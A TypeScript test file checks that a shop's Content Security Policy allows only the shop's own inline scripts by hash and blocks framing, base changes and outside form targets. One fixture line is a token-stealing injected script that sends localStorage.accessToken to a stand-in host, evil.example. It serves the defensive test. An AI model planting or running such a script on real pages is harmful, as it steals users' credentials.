import { createHash } from "node:crypto";
import { expect, test } from "vitest";
import { noOrigins } from "../kernel/payment-origins.ts";
import { policyFor } from "./page-security.server.ts";

const own = "document.documentElement.dataset.theme = 'dark'";
const foreign = "fetch('https://evil.example/' + localStorage.accessToken)";
const origins = { pictures: ["https://pictures.example"], payment: noOrigins, api: [] };
const page = `<html><script>${own}</script><script>${foreign}</script><script src="/a.js"></script></html>`;

function hashOf(script: string): string {
	return `'sha256-${createHash("sha256").update(script).digest("base64")}'`;
}

function directive(name: string): string[] {
	const policy = policyFor(page, new Set([own]), origins).split("; ");
	return (
		policy
			.find((one) => one.startsWith(`${name} `))
			?.split(" ")
			.slice(1) ?? []
	);
}

test("only the shop's own inline scripts run, by their hashes", () => {
	expect(directive("script-src")).toEqual(["'self'", hashOf(own)]);
	expect(directive("style-src")).toEqual(["'self'"]);
	expect(directive("default-src")).toEqual(["'none'"]);
});

test("nobody puts the shop into a frame, moves its base or sends its forms elsewhere", () => {
	expect(directive("frame-ancestors")).toEqual(["'none'"]);
	expect(directive("base-uri")).toEqual(["'none'"]);
	expect(directive("form-action")).toEqual(["'self'"]);
	expect(directive("object-src")).toEqual(["'none'"]);
	expect(directive("img-src")).toEqual(["'self'", "data:", "https://pictures.example"]);
});
